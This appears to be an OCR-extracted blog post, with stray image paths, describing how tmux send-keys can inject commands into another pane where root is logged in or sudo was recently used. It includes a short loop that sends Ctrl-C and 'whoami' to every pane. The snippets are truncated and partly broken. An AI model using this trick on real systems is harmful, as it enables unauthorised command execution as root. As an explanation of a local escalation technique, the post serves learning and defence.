tmux privilege escalation abusing send-keys

A script run as user in tmux can under some circumstances execute commands as root.


Did you know you can send keystrokes to other panes in tmux?
You can abuse send-keys to send commands to a root/sudo pane.
That's all there is to it, that's the trick.


There's a tmux feature to send keystrokes to a pane.
tmux send-keys -t $pane 'C-c' for example sends SIGINT to whatever is running in pane $pane.man tmux

When I sae the send-keys feature, I was like:
"What if theres another pane, where the user is logged in as root?"



tmux sp
su # login as root

Now go back to the other tmux pane (where you are logged in as user).


Now run the following script, to execute whoami in every pane:

for pane in `tmux list-panes | grep -Po '^\d'`; do
tmux send-keys -t $pane 'C-c'
tmux send-keys -t $pane 'whoami

You will see, as expected, the command whoami returnedroot.


With the same trick you can abuse that sudo was used in another pane.

tmux send-keys -t $pane 'sudo whoami

. . /